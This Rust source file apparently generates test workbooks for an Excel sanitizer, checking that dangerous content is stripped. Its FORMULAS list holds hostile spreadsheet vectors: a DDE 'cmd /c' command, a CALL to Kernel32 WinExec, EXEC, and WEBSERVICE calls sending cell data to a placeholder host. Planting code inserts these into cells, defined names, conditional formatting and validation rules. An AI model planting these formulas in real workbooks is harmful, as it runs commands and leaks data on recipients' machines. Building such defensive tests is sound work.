//! Excel vectors: formulas, names, macro sheets, connections, links, parts.

use super::SENTENCE;
use super::office::planted;
use super::xlsx_parts;
use crate::case::Case;
use crate::make::package::{Package, XML};
use crate::make::xml::{Wording, escape};

pub const TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
pub const BOOK: &str = "xl/workbook.xml";
pub const SHEET: &str = "xl/worksheets/sheet1.xml";
pub const MS: &str = "http://schemas.microsoft.com/office/";
pub const SML: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
    xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
const ROWS_END: &str = "</sheetData>";

/// A workbook with the sentence, a number, a date in era form, a harmless
/// formula, a merged cell and a link.
pub fn base() -> Package {
    let mut package = Package::default();
    package
        .relate("", "rId1", "officeDocument", BOOK)
        .part(BOOK, &format!("{TYPE}sheet.main+xml"), format!("{XML}<workbook {SML}><sheets><sheet name=\"申請\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"))
        .part(SHEET, &format!("{TYPE}worksheet+xml"), format!(
            "{XML}<worksheet {SML}><cols><col min=\"1\" max=\"20\" width=\"2.5\" customWidth=\"1\"/></cols><sheetData>\
             <row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>\
             <row r=\"2\"><c r=\"A2\"><v>12345</v></c><c r=\"B2\" s=\"1\"><v>46054</v></c><c r=\"C2\"><f>SUM(A2,1)</f><v>12346</v></c></row>\
             <row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>町のページ</t></is></c></row></sheetData>\
             <mergeCells count=\"1\"><mergeCell ref=\"A1:J1\"/></mergeCells>\
             <hyperlinks><hyperlink ref=\"A3\" r:id=\"rIdWeb\"/></hyperlinks></worksheet>"))
        .part("xl/sharedStrings.xml", &format!("{TYPE}sharedStrings+xml"), format!("{XML}<sst {SML} count=\"1\" uniqueCount=\"1\"><si><t>{SENTENCE}</t></si></sst>"))
        .part("xl/styles.xml", &format!("{TYPE}styles+xml"), format!(
            "{XML}<styleSheet {SML}><numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;\"/></numFmts>\
             <fonts count=\"1\"><font><sz val=\"11\"/><name val=\"ＭＳ ゴシック\"/></font></fonts><fills count=\"1\"><fill><patternFill patternType=\"none\"/></fill></fills>\
             <borders count=\"1\"><border/></borders><cellStyleXfs count=\"1\"><xf/></cellStyleXfs>\
             <cellXfs count=\"2\"><xf xfId=\"0\"/><xf numFmtId=\"164\" applyNumberFormat=\"1\" xfId=\"0\"/></cellXfs></styleSheet>"))
        .relate(BOOK, "rId1", "worksheet", "worksheets/sheet1.xml")
        .relate(BOOK, "rIdSst", "sharedStrings", "sharedStrings.xml")
        .relate(BOOK, "rIdSty", "styles", "styles.xml")
        .relate_out(SHEET, "rIdWeb", "hyperlink", "https://www.example.jp/town");
    package
}

/// Formulas that act or fetch; `{}` is the canary.
pub const FORMULAS: &[(&str, &str)] = &[
    ("dde", "cmd|'/c {}'!A1"),
    ("dde-msexcel", "MSEXCEL|'\\..\\..\\{}.exe'!A1"),
    ("unc", "'\\\\{}.example\\[x.xlsx]S'!A1"),
    ("outside", "'http://{}.example/[x.xlsx]S'!A1"),
    ("call", "CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"{}\",0)"),
    ("register", "REGISTER.ID(\"Kernel32\",\"{}\")"),
    ("exec", "EXEC(\"{}\")"),
    ("rtd", "RTD(\"{}\",,\"x\")"),
    ("webservice", "WEBSERVICE(\"http://{}.example/\"&A2)"),
    ("webservice-prefix", "_xlfn.WEBSERVICE(\"http://{}.example/\")"),
    ("webservice-case", "_XLFN.WebService (\"http://{}.example/\")"),
    ("webservice-inner", "IF(1,LEN(WEBSERVICE(\"http://{}.example/\")),0)"),
    ("filterxml", "FILTERXML(WEBSERVICE(\"http://{}.example/\"),\"//a\")"),
    ("image", "_xlfn.IMAGE(\"http://{}.example/x.png\")"),
    ("hyperlink", "HYPERLINK(\"file://{}.example/x.exe\",\"押す\")"),
    ("hyperlink-script", "HYPERLINK(\"javascript:{}\",\"押す\")"),
    ("indirect", "INDIRECT(\"'\\\\{}.example\\[x.xlsx]S'!A1\")"),
    ("python", "_xlfn._xlws.PY(\"{}\",0)"),
    ("lambda", "_xlfn.LAMBDA(_xlpm.x,WEBSERVICE(_xlpm.x))(\"http://{}.example/\")"),
    ("stockhistory", "_xlfn.STOCKHISTORY(\"{}\",1)"),
    ("cube", "CUBEVALUE(\"{}\",\"[x]\")"),
    ("sqlrequest", "SQL.REQUEST(\"DSN={}\",,,\"x\")"),
    ("importxml", "IMPORTXML(\"http://{}.example/\",\"//a\")"),
    ("run", "RUN(\"{}\")"),
    ("evaluate", "EVALUATE(\"{}\")"),
];

/// Every case of this file.
pub fn cases() -> Vec<Case> {
    let mut cases: Vec<Case> = ["Plain", "Utf16Little", "References", "Prefixes", "Strict"]
        .into_iter()
        .zip([
            Wording::Plain,
            Wording::Utf16Little,
            Wording::References,
            Wording::Prefixes,
            Wording::Strict,
        ])
        .map(|(_, wording)| {
            let id = format!("xlsx-twin{}", wording.suffix());
            Case::twin(&id, "xlsx", base().write(wording), &[SENTENCE, "町のページ", "12345"])
        })
        .collect();
    for (name, formula) in FORMULAS {
        for (place, plant) in PLACES {
            cases.push(Case::gone(&format!("xlsx-formula-{name}-{place}"), "xlsx", |canary| {
                let mut package = base();
                plant(&mut package, &escape(&formula.replace("{}", canary)));
                package.write(Wording::Plain)
            }));
        }
    }
    for (name, plant) in xlsx_parts::VECTORS {
        let extension = if name.starts_with("macro") { "xlsm" } else { "xlsx" };
        cases.extend(planted(base, &format!("xlsx-{name}"), extension, *plant));
    }
    for (index, scheme) in super::docx::SCHEMES.iter().enumerate() {
        cases.push(Case::gone(&format!("xlsx-link-scheme{index:02}"), "xlsx", |canary| {
            let mut package = base();
            package.relate_out(SHEET, "rIdX", "hyperlink", &scheme.replace("{}", canary));
            package.before(SHEET, "</hyperlinks>", "<hyperlink ref=\"A2\" r:id=\"rIdX\"/>");
            package.write(Wording::Plain)
        }));
    }
    cases
}

/// A vector's name and what plants it.
pub type Named = (&'static str, fn(&mut Package, &str));

/// Where a formula may stand.
const PLACES: &[Named] = &[
    ("cell", |p, formula| {
        p.before(
            SHEET,
            ROWS_END,
            &format!("<row r=\"9\"><c r=\"A9\"><f>{formula}</f><v>7</v></c></row>"),
        );
    }),
    ("array", |p, formula| {
        p.before(SHEET, ROWS_END, &format!("<row r=\"9\"><c r=\"A9\"><f t=\"array\" ref=\"A9:A9\">{formula}</f><v>7</v></c></row>"));
    }),
    ("shared", |p, formula| {
        p.before(SHEET, ROWS_END, &format!("<row r=\"9\"><c r=\"A9\"><f t=\"shared\" ref=\"A9:B9\" si=\"0\">{formula}</f><v>7</v></c><c r=\"B9\"><f t=\"shared\" si=\"0\"/><v>7</v></c></row>"));
    }),
    ("name", |p, formula| {
        p.before(
            BOOK,
            "</workbook>",
            &format!(
                "<definedNames><definedName name=\"n\">{formula}</definedName></definedNames>"
            ),
        );
    }),
    ("condition", |p, formula| {
        p.replace(SHEET, "<hyperlinks>", &format!("<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>{formula}</formula></cfRule></conditionalFormatting><hyperlinks>"));
    }),
    ("validation", |p, formula| {
        p.replace(SHEET, "<hyperlinks>", &format!("<dataValidations count=\"1\"><dataValidation type=\"custom\" sqref=\"A1\"><formula1>{formula}</formula1></dataValidation></dataValidations><hyperlinks>"));
    }),
];
